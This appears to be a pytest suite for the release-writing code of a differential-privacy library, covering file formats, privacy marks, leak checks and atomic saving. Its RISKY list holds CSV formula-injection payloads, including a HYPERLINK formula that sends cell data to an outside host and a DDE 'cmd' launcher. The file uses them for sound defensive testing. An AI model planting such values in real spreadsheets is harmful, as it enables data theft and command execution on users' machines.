"""The files of a release: what they hold, what they never hold, and that they are all there or not at all."""

import csv
import json
import math
import os
import re
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path

import numpy as np
import pyarrow as pa
import pyarrow.csv as pc
import pyarrow.parquet as pq
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

import recordwise as rw
from build import generous, keys, question, records, session
from recordwise.errors import OutputError, ParameterError, SourceError
from recordwise.noise import Seeded
from recordwise.policy import Policy, constant
from recordwise.release.content import Content, content_of
from recordwise.release.formats.csv import Csv, whole_numbers, with_formulas, without_formulas
from recordwise.release.formats.parquet import Parquet, read_tables
from recordwise.release.page import page
from recordwise.release.published import Published
from recordwise.release.staging import new_folder, require_new
from recordwise.release.tables import (
    NOT_PRIVATE,
    PRIVATE,
    ReleasedTable,
    digest_of,
)
from recordwise.release.verify import verify


@pytest.fixture(scope="module")
def release() -> rw.Release:
    with session(records(), budget=generous()) as opened:
        return opened.run(question())


@pytest.fixture(scope="module")
def seeded() -> rw.Release:
    with session(records(), budget=generous()) as opened:
        return opened.run(question(), rng=Seeded(1))


def holding(table: pa.Table) -> Content:
    """The content of a file with one table, as an external mechanism released it."""
    released = ReleasedTable(name="t", keys=(), variables=(), data=table)
    return content_of(Published({}), [released], rw.Labels(), privacy_label=PRIVATE)


@pytest.mark.costly
def test_parquet_csv_and_memory_hold_the_same_table(release, tmp_path) -> None:
    folder = release.save(tmp_path / "out")
    for table in release.tables:
        assert pq.read_table(folder / f"{table.name}.parquet").equals(table.data)
        assert Csv().same(release.content().only(table.name), folder / f"{table.name}.csv")
        assert pc.read_csv(folder / f"{table.name}.csv").num_rows == table.data.num_rows


def test_the_folder_holds_these_files_and_no_other(release, tmp_path) -> None:
    names = {"county_by_naics2", "county_by_naics3"}
    files = {"datapackage.json", "policy.json", "release.json", "report.html"} | {f"{name}.parquet" for name in names}
    assert {path.name for path in release.save(tmp_path / "a", formats=["parquet"]).iterdir()} == files
    files |= {f"{name}.csv" for name in names}
    assert {path.name for path in release.save(tmp_path / "b").iterdir()} == files


def test_a_policy_file_gives_back_both_policies(release, tmp_path) -> None:
    saved = json.loads((release.save(tmp_path / "out") / "policy.json").read_text())
    assert Policy.from_json(saved["tight"]) == release.policy
    assert Policy.from_json(saved["paper"]) == release.paper_policy


def test_every_file_of_a_seeded_run_says_not_private_and_no_file_of_a_real_one(release, seeded, tmp_path) -> None:
    for path in seeded.save(tmp_path / "seeded").iterdir():
        assert b"NOT PRIVATE" in path.read_bytes(), path.name
    for path in release.save(tmp_path / "real").iterdir():
        assert b"NOT PRIVATE" not in path.read_bytes(), path.name
    text = (tmp_path / "seeded" / "county_by_naics3.csv").read_text()
    assert text.startswith(f"# {NOT_PRIVATE}\n")
    assert (
        pq.read_schema(tmp_path / "seeded" / "county_by_naics3.parquet").metadata[b"recordwise"] == NOT_PRIVATE.encode()
    )
    assert NOT_PRIVATE in repr(seeded)
    assert NOT_PRIVATE in seeded._repr_html_()


def parquet_says(path: Path, mark: str) -> None:
    pq.write_table(pq.read_table(path).replace_schema_metadata({b"recordwise": mark}), path)


def json_says(path: Path, mark: str) -> None:
    path.write_text(json.dumps(json.loads(path.read_text()) | {"mark": mark}))


def csv_says(path: Path, mark: str) -> None:
    lines = [line for line in path.read_text().splitlines(keepends=True) if not line.startswith("# ")]
    path.write_text("".join([*([] if mark == PRIVATE else [f"# {mark}\n"]), *lines]))


def page_says(path: Path, mark: str) -> None:
    swapped = ('class="not-private"', 'class="private"')
    path.write_text(
        path.read_text().replace(*(swapped if mark == PRIVATE else ("<header>", f"<p {swapped[0]}><header>")))
    )


MARKED = {
    "release.json": json_says,
    "policy.json": json_says,
    "county_by_naics2.parquet": parquet_says,
    "county_by_naics3.csv": csv_says,
    "report.html": page_says,
}


@pytest.mark.parametrize("name", MARKED)
@pytest.mark.parametrize("really", [True, False])
@pytest.mark.costly
def test_a_folder_whose_files_disagree_about_being_private_is_not_read(release, seeded, tmp_path, name, really) -> None:
    folder = (release if really else seeded).save(tmp_path / "out")
    assert rw.read(folder).private == really
    MARKED[name](folder / name, NOT_PRIVATE if really else PRIVATE)
    with pytest.raises(SourceError, match=rf"marked private: .*; not marked private: .*{'' if not really else name}"):
        rw.read(folder)
    if name.endswith("json"):
        MARKED[name](folder / name, "certified")
        with pytest.raises(SourceError, match="not marked private"):
            rw.read(folder)


def test_a_mark_that_every_file_bears_but_nobody_knows_is_refused(release, tmp_path) -> None:
    folder = release.save(tmp_path / "out", formats=["parquet"])
    for name in ("report.html", "datapackage.json"):
        (folder / name).unlink()
    for name in (path.name for path in folder.iterdir()):
        (parquet_says if name.endswith("parquet") else json_says)(folder / name, "certified")
    with pytest.raises(SourceError, match="marked private: no file"):
        rw.read(folder)


def test_no_file_holds_the_number_of_records_or_of_cells_that_have_any(tmp_path) -> None:
    """Both numbers are made unmistakable: 6,547 records in 7 of 12 cells, with large noise around them."""
    rows = records(6547)
    kept = ["01111", "01112", "01221", "02111", "02112", "02221", "03111"]
    county = pa.array([kept[i % 7][:2] for i in range(6547)])
    naics = pa.array([kept[i % 7][2:] for i in range(6547)])
    rows = rows.set_column(2, "county", county).set_column(3, "naics", naics)
    asked = rw.query().group_by("county", "naics", keys=keys()).count(rw.Gaussian(sigma=10**7))
    with session(rows, tmp_path / "l", generous()) as opened:
        folder = opened.run(asked).save(tmp_path / "out")
        books = json.dumps([event.body for event in opened.history()])
    words = [path.read_text() for path in folder.glob("*.json")]
    # As a number of its own: the digits of a digest or of a noisy share are as good as random, and one of them in 800 holds these.
    assert not any(re.search(r"(?<![\w.])6,?547(?![\w.])", text) for text in [*words, books])
    numbers = [number for text in [*words, books] for number in _numbers(json.loads(text))]
    assert 12 in numbers
    assert not {7, 6547, 5, 6547 / 12, 7 / 12, 5 / 12} & set(numbers)


def _numbers(value) -> list[float]:
    if isinstance(value, dict):
        return [number for part in value.values() for number in _numbers(part)]
    if isinstance(value, list):
        return [number for part in value for number in _numbers(part)]
    return [value] if isinstance(value, int | float) and not isinstance(value, bool) else []


def test_accuracy_comes_from_published_columns_alone(release) -> None:
    stated = release.to_json()["accuracy"]["county_by_naics3"]
    table = release["county_by_naics3"]
    for name in ("n", "sum_emp", "sum_pay"):
        sd, cv = (table[name + end].drop_null().to_numpy() for end in ("_sd", "_cv"))
        assert stated[name]["median_sd"] == np.median(sd)
        assert stated[name]["share_cv_below_0.1"] == np.mean(cv < 0.1)


def test_noise_without_a_variance_leaves_valid_json_and_empty_cells(tmp_path) -> None:
    heavy = rw.Polylog(power=1, rate="2.9", offset=1, scale=1, lattice=1)
    asked = rw.query().group_by("county", keys=keys()).sum("emp", heavy)
    with session(records()) as opened:
        folder = opened.run(asked).save(tmp_path / "out")
    text = (folder / "release.json").read_text()
    stated = json.loads(text, parse_constant=lambda name: pytest.fail(f"{name} is no JSON"))["accuracy"]["county"]
    assert stated == {"sum_emp": {"median_sd": None, "median_cv": None, "share_cv_below_0.1": None}}
    table = pq.read_table(folder / "county.parquet")
    assert table["sum_emp_cv"].null_count == 4
    assert all(math.isinf(value) for value in table["sum_emp_sd"].to_pylist())


def test_one_table_has_a_short_way_and_several_need_a_name(release) -> None:
    with pytest.raises(ParameterError, match="county_by_naics2, county_by_naics3"):
        _ = release.table
    assert release.to_pandas("county_by_naics2").shape == (8, 20)
    assert release.to_polars("county_by_naics2").shape == (8, 20)
    with pytest.raises(ParameterError):
        _ = release["nothing"]


text = st.text(st.characters(exclude_categories=("Cs",)) | st.sampled_from("='\t\r\n+-@ "), max_size=6)


@settings(max_examples=60, deadline=None)
@given(
    st.lists(st.tuples(st.none() | text, st.none() | st.floats(allow_nan=False), st.none() | st.booleans()), min_size=1)
)
@pytest.mark.costly
def test_any_text_number_and_gap_survives_csv_and_parquet_and_keeps_its_fingerprint(tmp_path_factory, rows) -> None:
    folder = tmp_path_factory.mktemp("trip")
    columns = [pa.array(column, kind) for column, kind in zip(zip(*rows), (pa.string(), pa.float64(), pa.bool_()))]
    table = pa.table(columns, ["text", "number", "truth"])
    Csv().write(holding(table), folder / "t.csv")
    pq.write_table(table, folder / "t.parquet", row_group_size=2)
    assert Csv().same(holding(table), folder / "t.csv")
    assert with_formulas(without_formulas(table)).equals(table)
    assert digest_of(read_tables(folder), constant(1)) == digest_of({"t": table}, constant(1))


RISKY = [
    '=HYPERLINK("http://example.org/?"&A1,"x")',
    "+1",
    "-1+cmd|' /C calc'!A0",
    "@SUM(A1)",
    "\t=1",
    "\r=1",
    "\n=1",
    " =1",
    "\u00a0=1",
    "\uff1d1+1",
    "'quoted",
    "''twice",
]
HARMLESS = ["044", "a=1", "a'b", "", "Cote d'Or", " 3", "1-2", "#5"]


@pytest.mark.parametrize("values", [[1.0, -2.0, 3e15], [1.0, 0.5], [-0.0, 1.0], [1.0, float("inf")], [1e17, 2.0], []])
def test_whole_numbers_are_written_as_integers_and_read_as_the_same_numbers(values) -> None:
    column = pa.array(values, pa.float64())
    found = whole_numbers(pa.table({"n": column})).column("n")
    assert pa.types.is_integer(found.type) == (values == [1.0, -2.0, 3e15])
    assert found.cast(pa.float64()).to_pylist() == values


def test_no_text_of_a_csv_file_begins_as_a_formula_and_numbers_stay_numbers(tmp_path) -> None:
    table = pa.table({"=key": [*RISKY, *HARMLESS, None], "value": [-1.5] * 21, "whole": [-7] * 21})
    Csv().write(holding(table), tmp_path / "t.csv")
    with (tmp_path / "t.csv").open(newline="", encoding="utf-8") as file:
        head, *rows = csv.reader(file)
    assert head == ["'=key", "value", "whole"]
    assert [row[0] for row in rows] == [*("'" + risky for risky in RISKY), *HARMLESS, ""]
    assert {(row[1], row[2]) for row in rows} == {("-1.5", "-7")}
    assert Csv().same(holding(table), tmp_path / "t.csv")
    other = table.set_column(0, "=key", [[*RISKY[1:], RISKY[0], *HARMLESS, None]])
    assert not Csv().same(holding(other), tmp_path / "t.csv")


def test_a_csv_file_written_before_texts_were_guarded_is_still_the_same_table(tmp_path) -> None:
    table = pa.table({"key": [*RISKY, *HARMLESS, None]})
    pc.write_csv(table, tmp_path / "t.csv")
    assert Csv().same(holding(table), tmp_path / "t.csv")


def test_keys_found_in_the_data_are_guarded_in_csv_and_agree_with_the_ledger(tmp_path) -> None:
    rows = records()
    rows = rows.set_column(rows.column_names.index("county"), "county", pa.array(["=1+1", "'x"] * 250))
    chosen = rw.Keys.select(rho=1, delta="0.01")
    with session(rows, tmp_path / "l") as opened:
        release = opened.run(rw.query().group_by("county", keys=chosen).count(rw.Gaussian(rho=1)))
    folder = release.save(tmp_path / "out")
    assert [line.split(",")[0] for line in (folder / "county.csv").read_text().splitlines()[1:]] == [
        "\"''x\"",
        '"\'=1+1"',
    ]
    assert pq.read_table(folder / "county.parquet")["county"].to_pylist() == ["'x", "=1+1"]
    assert verify(tmp_path / "l", against=[folder]) == []


def test_fingerprints_tell_apart_what_looks_alike() -> None:
    alike = [
        pa.table({"a": ["x", "yz"]}),
        pa.table({"a": ["xy", "z"]}),
        pa.table({"a": ["xyz", ""]}),
        pa.table({"a": ["xyz", None]}),
        pa.table({"b": ["x", "yz"]}),
        pa.table({"a": [0, 1]}),
        pa.table({"a": [0.0, 1.0]}),
        pa.table({"a": pa.array([0, None], pa.int64())}),
        pa.table({"a": pa.array([None, 0], pa.int64())}),
        pa.table({"a": [False, True]}),
        pa.table({"a": ["x", "yz"], "c": ["", ""]}),
    ]
    digests = {digest_of({"t": table}, constant(1)) for table in alike}
    digests |= {digest_of({"u": alike[0]}, constant(1)), digest_of({"t": alike[0]}, constant(2))}
    assert len(digests) == len(alike) + 2
    with pytest.raises(ParameterError, match="neither numbers, text nor truth values"):
        digest_of({"t": pa.table({"a": [[1]]})}, constant(1))


def test_a_name_that_is_taken_is_refused_and_left_alone(release, tmp_path) -> None:
    (tmp_path / "out").mkdir()
    (tmp_path / "out" / "precious").write_text("x")
    (tmp_path / "link").symlink_to(tmp_path / "nowhere")
    for name in ("out", "link"):
        with pytest.raises(OutputError, match=r"already exists\. No file was left behind"):
            release.save(tmp_path / name)
        with pytest.raises(OutputError):
            require_new(tmp_path / name)
    assert [path.name for path in (tmp_path / "out").iterdir()] == ["precious"]


def staged(target: Path, meanwhile: Callable[[Path], object]) -> None:
    """Stage a folder under this name; something happens before it is done."""
    with new_folder(target) as staging:
        (staging / "first").write_text("x")
        meanwhile(staging)


def failing(error: BaseException) -> Callable[[Path], object]:
    def fail(staging: Path) -> None:
        assert staging.exists()
        raise error

    return fail


def test_a_failure_while_writing_leaves_nothing_behind(tmp_path) -> None:
    with pytest.raises(OutputError, match="could not be written: Is a directory"):
        staged(tmp_path / "out", lambda staging: staging.write_text("x"))
    with pytest.raises(KeyboardInterrupt):
        staged(tmp_path / "out", failing(KeyboardInterrupt()))
    assert list(tmp_path.iterdir()) == []


@pytest.mark.parametrize("kind", [Parquet, Csv])
def test_a_table_that_could_not_be_written_fails_the_whole_release(kind: type, release, tmp_path, monkeypatch) -> None:
    def fail(*_: object, **__: object) -> None:
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(kind, "write", fail)
    with pytest.raises(OutputError, match="No space left on device"):
        release.save(tmp_path / "out")
    assert list(tmp_path.iterdir()) == []


def test_templates_that_could_not_be_read_fail_the_whole_release(release, tmp_path, monkeypatch) -> None:
    """They are read beside everything else, and a failure there is told all the same."""

    def fail() -> None:
        raise OSError(5, "Input/output error")

    monkeypatch.setattr(page, "read_templates", fail)
    with pytest.raises(OutputError, match="Input/output error"):
        release.save(tmp_path / "out")
    assert list(tmp_path.iterdir()) == []


def test_every_file_and_its_folder_reach_the_disk_before_the_folder_takes_its_name(tmp_path, monkeypatch) -> None:
    done: list[int | str] = []
    fsync, rename = os.fsync, os.rename
    monkeypatch.setattr(os, "fsync", lambda handle: (done.append(os.fstat(handle).st_ino), fsync(handle))[1])
    monkeypatch.setattr(os, "rename", lambda *names: (done.append("named"), rename(*names))[1])
    staged(tmp_path / "out", lambda staging: (staging / "second").write_text("y"))
    before = done[: done.index("named")]
    assert {(tmp_path / "out" / name).stat().st_ino for name in ("first", "second")} <= set(before)
    assert (tmp_path / "out").stat().st_ino == before[-1]


@pytest.mark.parametrize("version", [0, 2, "1", None])
def test_a_release_of_another_format_is_refused(version: object, release, tmp_path) -> None:
    release.save(tmp_path / "out")
    stated = json.loads((tmp_path / "out" / "release.json").read_text())
    (tmp_path / "out" / "release.json").write_text(json.dumps(stated | {"recordwise_release": version}))
    with pytest.raises(SourceError, match="an incompatible version"):
        rw.read(tmp_path / "out")


def test_a_folder_below_a_file_is_a_clear_error(release, tmp_path) -> None:
    (tmp_path / "file").write_text("x")
    with pytest.raises(OutputError, match=r"Not a directory|File exists"):
        release.save(tmp_path / "file" / "out")


def test_the_next_save_sweeps_what_the_dead_left_and_spares_the_living(release, tmp_path) -> None:
    stale = [tmp_path / f".out.staging-{number}-1" for number in (99, 100)]
    for folder in stale:
        folder.mkdir()
        (folder / "half.parquet").write_text("half")
    others = [tmp_path / ".out.staging-x", tmp_path / ".out.b.staging-9-1", tmp_path / ".out2.staging-9-1"]
    for folder in others:
        folder.mkdir()
    with pytest.raises(OutputError, match="not empty"):
        staged(tmp_path / "out", lambda living: (release.save(tmp_path / "out"), list(living.iterdir())))
    assert not any(folder.exists() for folder in stale)
    assert all(folder.exists() for folder in others)


def test_two_savers_of_one_name_leave_one_whole_folder(release, tmp_path) -> None:
    with pytest.raises(OutputError, match="not empty"):
        staged(tmp_path / "out", lambda _: release.save(tmp_path / "out"))
    assert {path.name for path in tmp_path.iterdir()} == {"out"}
    assert (tmp_path / "out" / "release.json").exists()


def test_a_saved_folder_is_readable_as_the_umask_says(release, tmp_path) -> None:
    before = os.umask(0o027)
    try:
        folder = release.save(tmp_path / "out", formats=["parquet"])
    finally:
        os.umask(before)
    assert folder.stat().st_mode & 0o777 == 0o750
    assert {path.stat().st_mode & 0o777 for path in folder.iterdir()} == {0o640}


def test_parents_are_made_and_the_path_is_returned(release, tmp_path) -> None:
    target = tmp_path / "a" / "b" / "out"
    assert release.save(str(target)) == target
    assert (target / "release.json").exists()


@pytest.mark.process
def test_a_release_outlives_its_session_and_its_process(tmp_path) -> None:
    script = f"""
import sys
sys.path[:0] = {[str(Path(__file__).parent.parent), *sys.path]!r}
from pathlib import Path
from build import generous, question, records, session
with session(records(), Path({str(tmp_path / "l")!r}), generous()) as opened:
    release = opened.run(question())
release.save({str(tmp_path / "out")!r})
"""
    subprocess.run([sys.executable, "-c", script], check=True)
    assert verify(tmp_path / "l", against=[tmp_path / "out"]) == []
